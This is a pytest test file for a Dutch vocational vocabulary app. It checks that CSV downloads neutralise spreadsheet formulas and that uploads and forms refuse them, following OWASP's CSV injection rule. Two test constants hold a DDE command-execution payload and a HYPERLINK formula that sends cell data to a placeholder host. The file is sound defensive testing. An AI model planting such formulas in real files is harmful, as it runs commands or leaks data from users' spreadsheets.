"""Spreadsheets: no cell of a CSV download opens as a formula, an export uploaded again changes nothing, and the
checks refuse a term a spreadsheet would run (OWASP's CSV injection rule)."""

import csv
import io
import re
from datetime import date
from pathlib import Path

import pytest
from sqlalchemy import select

from api.extensions import db
from api.models import Organisation, Sector, Term, utcnow
from api.resources import resources
from api.services import terms
from tests import factories
from vaktaal import csvsafe
from vaktaal.wordlists import COLUMNS, NO_PLURAL, Origin, Translation, parse_csv, to_csv

ROOT = Path(__file__).resolve().parents[2]
CMD = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"klik")'


def download(client, user, scope="own", sector="schoonmaak"):
    response = client.get(f"/api/sectors/{sector}/terms.csv?scope={scope}", headers=factories.headers(user))
    assert response.status_code == 200
    return response.get_data(as_text=True)


def upload(client, user, text, scope="own", sector="schoonmaak"):
    return client.post(
        f"/api/sectors/{sector}/terms.csv?scope={scope}",
        data=text.encode("utf-8"),
        content_type="text/csv",
        headers=factories.headers(user),
    )


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def legacy_term(organisation: Organisation, **fields) -> Term:
    """A term saved before the checks refused formulas (straight into the table, past every check)."""
    sector = db.session.scalar(select(Sector).where(Sector.slug == "schoonmaak"))
    entry = factories.entry(**fields)
    term = terms.new_term(
        entry, sector_id=sector.id, organisation_id=organisation.id, origin=Origin.APP, position=1, now=utcnow()
    )
    db.session.commit()
    return term


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_starts_a_formula_is_written_as_text_and_read_back_unchanged(start):
    value = start + "1+1"
    text = csvsafe.write(["term"], [[value], ["'" + value], ["''" + value]])
    written = cells(text)[1:]
    assert written == ["'" + value, "''" + value, "'''" + value]
    assert not any(cell.startswith(csvsafe.FORMULA_START) for cell in written)
    assert [csvsafe.restore(cell) for cell in written] == [value, "'" + value, "''" + value]


@pytest.mark.parametrize("value", ["'s avonds", "dweil", "", "'", "e-mail", "5 - 3"])
def test_ordinary_text_is_written_as_it_is(value):
    assert csvsafe.neutralise(value) == value
    assert csvsafe.restore(value) == value


def test_a_download_neutralises_what_was_saved_before_the_checks_refused_it(client, world):
    legacy_term(world.org_a, key="link", term=LINK, example=CMD, plural=NO_PLURAL)
    text = download(client, world.teacher)
    row = next(csv.DictReader(io.StringIO(text, newline="")))
    assert (row["term"], row["example"], row["plural"]) == ("'" + LINK, "'" + CMD, "'-")
    assert not [cell for cell in cells(text) if cell.startswith(csvsafe.FORMULA_START)]


def test_an_export_uploaded_again_changes_nothing_the_no_plural_marker_included(client, world):
    headers = factories.headers(world.teacher)
    body = {
        "sector": "schoonmaak",
        "key": "water",
        "term": "water",
        "article": "het",
        "plural": NO_PLURAL,
        "pos": "noun",
        "level": "A1",
        "theme": "materialen",
        "example": "Het water is heet.",
        "translations": {"en": {"text": "water"}, "ar": {"text": "ماء"}},
    }
    assert client.post("/api/terms", json=body, headers=headers).status_code == 201
    first = download(client, world.teacher)
    assert "'-" in cells(first)
    again = upload(client, world.teacher, first)
    assert again.status_code == 200, again.json
    assert again.json["unchanged"] == 1 and again.json["updated"] == again.json["added"] == []
    stored = db.session.scalar(select(Term).where(Term.key == "water"))
    assert stored.plural == NO_PLURAL
    assert download(client, world.teacher) == first


@pytest.mark.parametrize(("field", "value"), [("term", CMD), ("example", LINK), ("en", "+31 6 1234"), ("plural", "-s")])
def test_an_upload_with_a_formula_is_refused_by_row_and_field_and_changes_nothing(client, world, field, value):
    row = dict.fromkeys(COLUMNS, "")
    row |= {"key": "emmer", "term": "emmer", "article": "de", "plural": "emmers", "pos": "noun", "level": "A1"}
    row |= {"theme": "materialen", "example": "Vul de emmer.", "safety": "no", "en": "bucket", "ar": "دلو"}
    row[field] = value
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=COLUMNS, lineterminator="\n")
    writer.writeheader()
    writer.writerow(row)
    response = upload(client, world.teacher, out.getvalue())
    assert response.status_code == 422
    assert any("formule" in message for message in response.json["errors"]["rows"]["line 2"])
    assert db.session.scalar(select(Term).where(Term.key == "emmer")) is None


def test_a_coach_cannot_add_a_formula_as_a_term_heard_on_a_visit(client, world):
    sector = db.session.scalar(select(Sector).where(Sector.slug == "schoonmaak"))
    workplace = factories.place(world.org_a, world.participant, sector.id, "Glans").workplace
    headers = factories.headers(world.coach)
    visit = client.post(
        "/api/visits",
        json={"workplace_id": workplace.id, "date": date.today().isoformat(), "notes": "", "observations": []},
        headers=headers,
    )
    assert visit.status_code == 201, visit.json
    heard = client.post(f"/api/visits/{visit.json['id']}/observations", json={"term": LINK}, headers=headers)
    assert heard.status_code == 422
    assert "formule" in heard.json["errors"]["json"]["term"][0]
    assert db.session.scalar(select(db.func.count()).select_from(Term)) == 0


def test_a_term_form_refuses_a_formula(client, world):
    body = {
        "sector": "schoonmaak",
        "key": "som",
        "term": "@SUM(A1:A9)",
        "pos": "other",
        "level": "A1",
        "theme": "werkplek",
        "example": "@SUM(A1:A9)",
        "translations": {"en": {"text": "sum"}, "ar": {"text": "مجموع"}},
    }
    response = client.post("/api/terms", json=body, headers=factories.headers(world.teacher))
    assert response.status_code == 422, response.json
    assert "formule" in response.json["errors"]["json"]["term"][0], response.json


@pytest.mark.parametrize(
    "rows",
    ["x,a\rb,c\n", 'x,"' + "a" * 200_000 + '"\n', 'x,"a\x00b"\n', '"open\n'],
    ids=["lone-carriage-return", "huge-cell", "nul", "open-quote"],
)
def test_an_unreadable_upload_is_refused_with_its_line_never_a_server_error(client, world, rows):
    response = upload(client, world.teacher, ",".join(COLUMNS) + "\n" + rows)
    assert response.status_code == 422, response.json
    assert response.json["errors"]["rows"]


def test_the_file_format_round_trips_with_neutralised_cells():
    entry = factories.entry(term="dweil", plural=NO_PLURAL)
    entry = type(entry)(**{**entry.__dict__, "translations": {"en": Translation("-mop (cloth)")}})
    text = to_csv([entry])
    assert "'-mop (cloth)" in cells(text) and "'-" in cells(text)
    numbered, problems = parse_csv(text)
    assert problems == []
    assert [e for _, e in numbered] == [entry]
    # The shipped files in git keep the marker as FORMAT.md shows it, and only it.
    repository = to_csv([entry], repository=True)
    assert "-" in cells(repository) and "'-mop (cloth)" in cells(repository)


def test_every_csv_is_written_by_the_one_helper():
    """A later export (a cohort report, a progress table) must go through vaktaal/csvsafe.py too."""
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(ROOT))
        for package in ("api", "vaktaal")
        for path in (ROOT / package).rglob("*.py")
        if path.name != "csvsafe.py" and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


def test_the_checker_refuses_a_formula_in_every_text_field_of_shared_and_own_terms(app):
    checker = resources(app).checker
    for own in (False, True):
        for field, entry in (
            ("term", factories.entry(term="+dweil")),
            ("example", factories.entry(example="=1+1")),
            ("theme", factories.entry(theme="@werk")),
            ("plural", factories.entry(plural="-dweilen")),
        ):
            problems = [p for p in checker.entry_problems(entry, own=own) if p.field == field and not p.advice]
            assert any("formule" in p.message for p in problems), (field, own)
    assert not [p for p in checker.entry_problems(factories.entry(plural=NO_PLURAL)) if "formule" in p.message]


def test_shipped_files_have_no_formula_but_the_no_plural_marker():
    """The repository's own lists, opened in Excel by the content team, pass the same rule."""
    checked = 0
    for path in (ROOT / "wordlists").glob("*.csv"):
        for cell in cells(path.read_text(encoding="utf-8")):
            assert cell == NO_PLURAL or not csvsafe.starts_as_formula(cell), (path.name, cell)
            checked += 1
    assert checked > 10_000


@pytest.mark.parametrize("field", ["term", "en", "theme"])
def test_a_control_character_in_a_cell_of_a_valid_row_is_refused_by_line(client, world, field):
    """A NUL inside an otherwise valid row (in the term and its example, or in a translation): the database could
    not store it (PostgreSQL) or would keep it (SQLite); the upload says which line."""
    row = dict.fromkeys(COLUMNS, "")
    row |= {"key": "kalk", "term": "kalk", "article": "de", "plural": "-", "pos": "noun", "level": "A2"}
    row |= {"theme": "werkplek", "example": "De kalk zit op de kraan.", "safety": "no", "en": "limescale"}
    if field == "term":
        row |= {"term": "ka\x00lk", "example": "De ka\x00lk zit op de kraan."}
    else:
        row[field] = row[field] + "\x00"
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=COLUMNS, lineterminator="\n")
    writer.writeheader()
    writer.writerow(row)
    response = upload(client, world.teacher, out.getvalue())
    assert response.status_code == 422, response.json
    assert "line 2" in response.json["errors"]["rows"], response.json
    assert db.session.scalar(select(Term).where(Term.key == "kalk")) is None
